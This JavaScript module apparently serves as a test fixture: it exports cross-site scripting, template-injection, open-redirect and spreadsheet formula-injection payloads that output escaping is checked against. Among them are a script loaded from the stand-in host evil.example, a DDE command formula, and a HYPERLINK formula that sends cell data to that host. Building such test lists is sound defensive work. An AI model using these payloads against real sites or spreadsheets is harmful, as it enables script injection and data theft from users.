const RUNS = 'alert(1)';
const ELSEWHERE = 'https://evil.example';

/** What breaks out of the context of a text: an attribute, a text element, a comment, a script. */
const exits = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '</noscript>',
  '"/>',
];

const elements = [
  `<script>${RUNS}</script>`,
  `<ScRiPt>${RUNS}</sCrIpT>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<img src=x onerror=${RUNS}>`,
  `<img/src=x/onerror=${RUNS}>`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUNS}></mtext></math>`,
  `<details open ontoggle=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<select autofocus onfocus=${RUNS}>`,
  `<video><source onerror=${RUNS}></video>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUNS}"></iframe>`,
  `<object data="javascript:${RUNS}"></object>`,
  `<link rel=stylesheet href=x onerror=${RUNS}>`,
  `<style onload=${RUNS}></style>`,
];

const attributes = [
  `" onmouseover=${RUNS} x="`,
  `' autofocus onfocus=${RUNS} x='`,
  `" style="animation-name:x" onanimationstart="${RUNS}`,
  `x onerror=${RUNS}`,
];

const addresses = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\tscript:${RUNS}`,
  ` javascript:${RUNS}`,
  `javascript&colon;${RUNS}`,
  `javascript://example.com/%0a${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUNS}`,
  '//evil.example/',
  '/\\evil.example/',
];

const templates = [
  `{{constructor.constructor('${RUNS}')()}}`,
  `\u0024{${RUNS}}`,
  `#{${RUNS}}`,
  `<%= ${RUNS} %>`,
  `[[${RUNS}]]`,
  `{{7*7}}`,
  `';${RUNS};//`,
  `";${RUNS};//`,
  `\\";${RUNS};//`,
  `\u2028${RUNS}//`,
  `<!--<script>${RUNS}`,
  `\u003cimg src=x onerror=${RUNS}\u003e`,
  `&lt;img src=x onerror=${RUNS}&gt;`,
  `%3Cscript%3E${RUNS}%3C/script%3E`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
  `<form action="javascript:${RUNS}"><button autofocus>`,
];

/** Texts that a spreadsheet would evaluate. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("${ELSEWHERE}?"&A1,"open")`,
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '=1+1","=1+1',
];

/** Everything that must be shown as plain text. */
export const payloads = [
  ...exits.flatMap((exit) => elements.map((element) => exit + element)),
  ...attributes,
  ...addresses,
  ...templates,
  ...formulas,
];
